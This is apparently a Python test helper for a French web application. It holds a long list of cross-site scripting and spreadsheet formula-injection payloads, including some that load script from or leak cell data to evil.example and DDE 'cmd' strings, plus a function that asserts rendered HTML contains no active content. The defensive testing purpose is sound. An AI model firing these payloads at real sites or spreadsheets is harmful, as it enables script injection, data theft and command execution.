"""Classic cross-site scripting vectors, and a check that some HTML runs none of them.

Each payload is what someone could type into a comment or a field of a fiche action.
"""

from __future__ import annotations

import html
import re

XSS_PAYLOADS: list[str] = [
    # Script tags, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>script>alert(1)<</script>/script>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<a href="#" onmouseover="alert(1)">survol</a>',
    # javascript: URLs, in Markdown and raw, with case, entity and whitespace tricks.
    "[cliquez](javascript:alert(1))",
    "[cliquez](JaVaScRiPt:alert(1))",
    "[cliquez](&#106;avascript:alert(1))",
    "[cliquez](&#x6A;&#x61;vascript:alert(1))",
    "[cliquez](java\tscript:alert(1))",
    "[cliquez](<java\nscript:alert(1)>)",
    "[cliquez]( javascript:alert(1))",
    "[cliquez](javascript%3Aalert(1))",
    "[ref][x]\n\n[x]: javascript:alert(1)",
    '<a href="javascript:alert(1)">cliquez</a>',
    '<a href="jav&#x09;ascript:alert(1)">cliquez</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    "[cliquez](vbscript:msgbox(1))",
    "<vbscript:msgbox(1)>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    # data: URLs.
    "[cliquez](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<data:text/html,<script>alert(1)</script>>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    # Markdown images.
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    "![x](https://example.org/x.png)",
    # SVG, frames, objects, styles.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="width: expression(alert(1))">x</div>',
    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    # Breaking out of an attribute.
    '"><script>alert(1)</script>',
    "'><svg/onload=alert(1)>",
    '" onmouseover="alert(1)',
    '[a](http://x "onmouseover=alert(1)")',
    '[a](http://x "a" onmouseover="alert(1)")',
    '[a](http://x" onmouseover="alert(1))',
    # Comments and template injection lookalikes.
    "<!--<script>-->alert(1)<!--</script>-->",
    "<!--><script>alert(1)</script>-->",
    "{{7*7}}",
    "{% raw %}{{ config }}{% endraw %}",
    "{{ ''.__class__.__mro__ }}",
    # Code spans and blocks are text, even when they look like HTML.
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <img src=x onerror=alert(1)>",
    # More breaking out: of a double-quoted attribute, a <textarea>, a <title>, a <noscript>.
    '"><svg/onload=alert(1)>',
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<img src=x onerror=alert(1)//",
    "<<img src=x onerror=alert(1)//<",
    '<input autofocus onfocus="alert(1)">',
    # Schemes behind spaces, in SVG animations, in MathML.
    '<a href="  javascript:alert(1)">espaces</a>',
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">x</math>',
    "javascript:alert(1)",
    # More Markdown: images with data: URLs, reference images, titles, autolinks.
    "![x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](<javascript:alert(1)>)",
    "![x][img]\n\n[img]: javascript:alert(1)",
    '[cliquez][1]\n\n[1]: <javascript:alert(1)> "titre"',
    "[a](https://example.org)<img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    # Payloads that leave a mark (window.__xss) rather than a dialog, for the browser tests.
    '<img src=x onerror="window.__xss=1">',
    '<svg onload="window.__xss=1">',
    "<script>window.__xss=1</script>",
    "[marqueur](javascript:window.__xss=1)",
    '<a href="javascript:window.__xss=1">marqueur</a>',
    '"><img src=x onerror="window.__xss=1">',
    '<details open ontoggle="window.__xss=1">',
]

# Text a spreadsheet would run as a formula (OWASP's CSV injection), harmless in HTML.
FORMULA_PAYLOADS: list[str] = [
    '=HYPERLINK("https://evil.example/?leak="&A1;"Cliquez")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]

# Everything a person could type into a field, for the tests that fill every field.
ALL_PAYLOADS: list[str] = XSS_PAYLOADS + FORMULA_PAYLOADS

# An opening tag, quoted attribute values may hold ">".
_TAG = re.compile(r"""<([a-zA-Z][^\s/>]*)((?:"[^"]*"|'[^']*'|[^'">])*)>""")
_TAG_START = re.compile(r"<[a-zA-Z]")
_ATTRIBUTE = re.compile(r"""([^\s"'>/=]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'=<>`]+))?""")
# Attributes holding a URL, or a value an SVG animation gives to one (values, to, from).
_URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "xlink:href",
        "action",
        "formaction",
        "data",
        "background",
        "poster",
        "values",
        "to",
        "from",
    }
)
# Found anywhere, even in broken markup.
_ACTIVE_TAGS = ("<script", "<iframe", "<object", "<embed", "<style")
# Tags that run or redirect code once parsed: base (moves every relative link), frames,
# applets, SVG animations (they can set an href to javascript:), a refreshing meta.
_ACTIVE_TAG_NAMES = frozenset(
    {"base", "frame", "frameset", "applet", "animate", "set", "handler", "listener", "portal"}
)
_DANGEROUS_SCHEMES = ("javascript:", "data:", "vbscript:")
# CSS that runs script (old IE and Firefox), or loads some.
_DANGEROUS_STYLE = ("expression(", "javascript:", "behavior:", "-moz-binding", "url(", "@import")
# Browsers drop these from a URL before looking at its scheme.
_IGNORED_IN_URLS = re.compile(r"[\s\x00-\x1f\x7f]+")


def _attribute_value(raw: str | None) -> str:
    """The value as a browser reads it: quotes off, entities decoded, blanks dropped."""
    value = html.unescape((raw or "").strip("\"'"))
    return _IGNORED_IN_URLS.sub("", value).lower()


def assert_no_active_content(html_text: str) -> None:
    """Fail when the HTML could run code: an active tag, an event handler on a tag, a
    script URL in an attribute, a srcdoc, a style that runs script, a meta refreshing to a
    script URL.
    Escaped text (`&lt;script&gt;`) is fine: it is only shown."""
    lowered = html_text.lower()
    for active_tag in _ACTIVE_TAGS:
        position = lowered.find(active_tag)
        assert position == -1, f"{active_tag} in: {html_text[position : position + 80]!r}"
    # Every "<" that opens a tag, even one inside another tag's quoted attribute (escaped
    # text never has one there; a raw payload may: <p title="</noscript><img onerror=…>">).
    opening = (_TAG.match(html_text, start.start()) for start in _TAG_START.finditer(html_text))
    for tag in filter(None, opening):
        snippet = tag.group()
        tag_name = tag.group(1).lower()
        assert tag_name not in _ACTIVE_TAG_NAMES, f"active tag: {snippet!r}"
        attributes = {}
        for attribute in _ATTRIBUTE.finditer(tag.group(2)):
            name = attribute.group(1).lower()
            value = _attribute_value(attribute.group(2))
            attributes[name] = value
            assert not name.startswith("on"), f"event handler in tag: {snippet!r}"
            assert name != "srcdoc", f"srcdoc in tag: {snippet!r}"
            if name in _URL_ATTRIBUTES:
                # An SVG animation's values are a list: each one could become the URL.
                urls = value.split(";") if name == "values" else [value]
                assert not any(url.startswith(_DANGEROUS_SCHEMES) for url in urls), (
                    f"script URL in tag: {snippet!r}"
                )
            if name == "style":
                assert not any(bad in value for bad in _DANGEROUS_STYLE), (
                    f"active style in tag: {snippet!r}"
                )
        if tag_name == "meta" and attributes.get("http-equiv") == "refresh":
            target = attributes.get("content", "").partition("url=")[2].strip("'\"")
            assert not target.startswith(_DANGEROUS_SCHEMES), f"refreshing meta: {snippet!r}"
